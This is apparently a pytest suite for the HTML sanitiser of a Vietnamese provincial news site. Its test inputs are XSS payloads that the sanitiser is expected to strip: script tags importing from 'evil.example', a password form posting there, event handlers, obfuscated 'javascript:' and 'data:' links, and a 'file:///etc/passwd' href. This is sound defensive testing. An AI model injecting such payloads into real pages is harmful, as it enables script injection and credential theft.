"""Article bodies: rich text made safe (nh3 allowlist), plain text made paragraphs, and back."""

import unicodedata

import pytest
from django.utils import translation

from openprovince.core.errors import AppError
from openprovince.news.sanitise import LINK_REL, MAX_LENGTH, html_sanitise, html_to_text

# --- removed: active content ----------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        "<p>Trước</p><script>alert('x')</script><p>Sau</p>",
        "<p>Trước</p><SCRIPT type='module'>import('//evil.example')</SCRIPT><p>Sau</p>",
        "<p>Trước</p><style>body{display:none}</style><p>Sau</p>",
        "<p>Trước</p><iframe src='https://evil.example'>khung</iframe><p>Sau</p>",
        "<p>Trước</p><object data='x.swf'><param name='a'>vật</object><p>Sau</p>",
        "<p>Trước</p><embed src='x.swf'><p>Sau</p>",
        "<p>Trước</p><form action='https://evil.example'><input value='mật khẩu'>"
        "<button>Gửi</button></form><p>Sau</p>",
        "<p>Trước</p><svg onload='alert(1)'><text>hình</text></svg><p>Sau</p>",
        "<p>Trước</p><!-- <script>alert(1)</script> ghi chú --><p>Sau</p>",
    ],
    ids=["script", "script-upper", "style", "iframe", "object", "embed", "form", "svg", "comment"],
)
def test_given_active_content_when_sanitised_then_it_goes_with_everything_inside(raw):
    result = html_sanitise(raw)

    assert result == "<p>Trước</p><p>Sau</p>"


@pytest.mark.parametrize(
    "raw",
    [
        '<p onclick="alert(1)">Chữ</p>',
        '<p>Chữ<img src="x" onerror="alert(1)"></p>',
        '<p onload="alert(1)" ONMOUSEOVER="alert(2)">Chữ</p>',
        '<p style="background:url(javascript:alert(1))" class="x" id="y">Chữ</p>',
        '<p><span style="color:red">Chữ</span></p>',
    ],
    ids=["onclick", "img-onerror", "onload-upper", "style-class-id", "span-style"],
)
def test_given_event_handlers_or_styles_when_sanitised_then_only_the_text_stays(raw):
    assert html_sanitise(raw) == "<p>Chữ</p>"


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#x0A;ascript:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
    ],
)
def test_given_a_dangerous_link_when_sanitised_then_the_href_is_dropped(href):
    result = html_sanitise(f'<p><a href="{href}">Bấm vào đây</a></p>')

    assert result == f'<p><a rel="{LINK_REL}">Bấm vào đây</a></p>'


# --- kept: the allowlist --------------------------------------------------------------------


@pytest.mark.parametrize(
    "href",
    [
        "https://tayninh.gov.vn/tin-tuc?id=1&amp;p=2",
        "http://example.vn/",
        "mailto:vanphong@tayninh.gov.vn",
        "tel:+842763822222",
        "/dich-vu/cap-phep",
    ],
)
def test_given_a_safe_link_when_sanitised_then_it_is_kept_with_rel(href):
    result = html_sanitise(f'<p><a href="{href}" title="Xem" target="_blank">Xem</a></p>')

    assert result == f'<p><a href="{href}" title="Xem" rel="{LINK_REL}">Xem</a></p>'


def test_given_a_link_with_its_own_rel_when_sanitised_then_ours_replaces_it():
    result = html_sanitise('<p><a href="https://x.vn" rel="opener">x</a></p>')
    assert result == f'<p><a href="https://x.vn" rel="{LINK_REL}">x</a></p>'


def test_given_every_allowed_tag_when_sanitised_then_all_are_kept():
    raw = (
        "<h2>Tiêu đề</h2><h3>Mục</h3><h4>Tiểu mục</h4>"
        "<p><strong>đậm</strong> <b>b</b> <em>nghiêng</em> <i>i</i> <u>gạch</u> <s>xoá</s> "
        "H<sub>2</sub>O m<sup>2</sup><br>dòng mới</p>"
        "<ul><li>một</li></ul><ol><li>hai</li></ol>"
        "<blockquote><p>trích dẫn</p></blockquote><hr>"
        "<figure><figcaption>Chú thích</figcaption></figure><div>khối</div>"
        "<table><caption>Bảng</caption><thead><tr><th>A</th></tr></thead>"
        "<tbody><tr><td>1</td></tr></tbody></table>"
    )

    assert html_sanitise(raw) == raw


def test_given_table_spans_when_sanitised_then_only_numbers_are_kept():
    raw = (
        '<table><tbody><tr><th colspan="2" rowspan="x">A</th>'
        '<td colspan="2;x" rowspan="3" onclick="y">1</td></tr></tbody></table>'
    )

    result = html_sanitise(raw)

    assert result == (
        '<table><tbody><tr><th colspan="2">A</th><td rowspan="3">1</td></tr></tbody></table>'
    )


def test_given_headings_outside_the_allowed_levels_when_sanitised_then_h1_is_h2_h6_is_h4():
    result = html_sanitise("<h1 class='x'>Một</h1><h5>Năm</h5><h6>Sáu</h6><p>Chữ</p>")
    assert result == "<h2>Một</h2><h4>Năm</h4><h4>Sáu</h4><p>Chữ</p>"


def test_given_an_unknown_tag_when_sanitised_then_its_text_is_kept():
    result = html_sanitise("<p><font face='Arial'>Chữ</font> <marquee>chạy</marquee></p>")
    assert result == "<p>Chữ chạy</p>"


# --- plain text and inline HTML -------------------------------------------------------------


def test_given_plain_text_when_sanitised_then_paragraphs_and_line_breaks():
    raw = "Thông báo\r\nnghỉ lễ\n\n\n  Đoạn hai  \n\n"

    assert html_sanitise(raw) == "<p>Thông báo<br>nghỉ lễ</p><p>Đoạn hai</p>"


def test_given_plain_text_with_angle_brackets_and_ampersands_when_sanitised_then_escaped():
    raw = "Liên hệ <vanphong@tayninh.gov.vn> & <Ghi chú>: 3 < 5 > 1, a &amp; b"

    result = html_sanitise(raw)

    assert result == (
        "<p>Liên hệ &lt;vanphong@tayninh.gov.vn&gt; &amp; &lt;Ghi chú&gt;: "
        "3 &lt; 5 &gt; 1, a &amp;amp; b</p>"
    )
    assert html_to_text(result) == raw


def test_given_a_known_tag_typed_in_text_when_sanitised_then_the_body_is_read_as_html():
    # The rule: text holding a tag of a known HTML element is HTML.
    result = html_sanitise("Lưu ý <b>quan trọng</b>\n\nĐoạn hai\ndòng hai")

    assert result == "<p>Lưu ý <b>quan trọng</b></p><p>Đoạn hai<br>dòng hai</p>"


def test_given_inline_html_with_a_script_split_by_blank_lines_when_sanitised_then_it_is_gone():
    result = html_sanitise("Chữ <b>đậm</b>\n\n<script>\nalert(1)\n\nalert(2)</script>\n\nHết")
    assert "alert" not in result
    assert result.startswith("<p>Chữ <b>đậm</b></p>") and result.endswith("<p>Hết</p>")


def test_given_html_with_blocks_when_sanitised_then_its_newlines_are_not_made_breaks():
    result = html_sanitise("<p>Một\nhai</p>\n\n<p>Ba</p>")
    assert result == "<p>Một\nhai</p>\n\n<p>Ba</p>"


def test_given_empty_input_when_sanitised_then_empty():
    assert html_sanitise("  \n\n ") == ""
    assert html_sanitise("<script>x</script>") == ""


# --- Unicode and length ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        unicodedata.normalize("NFD", "<p>Tây Ninh: hồ sơ đất đai</p>"),
        unicodedata.normalize("NFD", "Tây Ninh: hồ sơ đất đai"),
        "<p>Ta&#x302;y Ninh: ho&#x302;&#x300; so&#x31B; đa&#x302;&#x301;t đai</p>",
    ],
    ids=["nfd-html", "nfd-text", "nfd-by-entities"],
)
def test_given_decomposed_vietnamese_when_sanitised_then_nfc(raw):
    result = html_sanitise(raw)

    assert result == "<p>Tây Ninh: hồ sơ đất đai</p>"
    assert unicodedata.is_normalized("NFC", result)


def test_given_invisible_characters_when_sanitised_then_they_are_dropped():
    assert html_sanitise("Tây\u202eNinh\x00\u200b") == "<p>TâyNinh</p>"


def test_given_a_body_over_the_limit_when_sanitised_then_body_too_long():
    with translation.override("en"), pytest.raises(AppError) as caught:
        html_sanitise("a" * (MAX_LENGTH + 1))

    assert caught.value.code == "news.body_too_long"
    assert "100,000" in caught.value.message


def test_given_bloated_html_that_cleans_under_the_limit_when_sanitised_then_accepted():
    raw = '<p style="font-family:Times New Roman;mso-bidi-font:x">Chữ</p>' * 3000
    assert len(raw) > MAX_LENGTH

    assert html_sanitise(raw) == "<p>Chữ</p>" * 3000


# --- plain text of sanitised HTML -----------------------------------------------------------


def test_given_sanitised_html_when_made_text_then_blocks_lines_lists_and_cells():
    html = html_sanitise(
        "<h1>Thông báo</h1>\n<p>Xem <a href='https://tayninh.gov.vn'>trang   tỉnh</a>"
        "&nbsp;&amp; <b>ghi chú</b><br>dòng hai</p>\n"
        "<ul>\n  <li>Một</li>\n  <li>Hai<ul><li>Hai rưỡi</li></ul></li>\n</ul>"
        "<ol><li>Bước đầu</li><li>Bước sau</li></ol>"
        "<table><caption>Lịch</caption><tr><th>Ngày</th><th>Giờ</th></tr>"
        "<tr><td>Thứ hai</td><td>7:30</td></tr></table>"
        "<blockquote>Trích</blockquote>"
    )

    assert html_to_text(html) == (
        "Thông báo\n\n"
        "Xem trang tỉnh & ghi chú\ndòng hai\n\n"
        "• Một\n• Hai\n• Hai rưỡi\n\n"
        "1. Bước đầu\n2. Bước sau\n\n"
        "Lịch\n\nNgày | Giờ\nThứ hai | 7:30\n\n"
        "Trích"
    )


def test_given_html_with_a_script_when_made_text_then_the_script_is_not_text():
    assert html_to_text("<p>A</p><script>alert(1)</script><style>p{}</style><p>B</p>") == "A\n\nB"


def test_given_plain_text_when_sanitised_and_made_text_then_it_comes_back():
    raw = "Thông báo\nnghỉ lễ\n\nĐoạn hai"
    assert html_to_text(html_sanitise(raw)) == raw


@pytest.mark.parametrize(
    "raw",
    ["Dòng 1\nDòng 2\n\n3 < 4", "Chữ <b>đậm</b>\n\nhai", "<h1>A</h1><p onclick=x>b<br>c</p>"],
)
def test_given_sanitised_html_when_sanitised_again_then_unchanged(raw):
    once = html_sanitise(raw)
    assert html_sanitise(once) == once
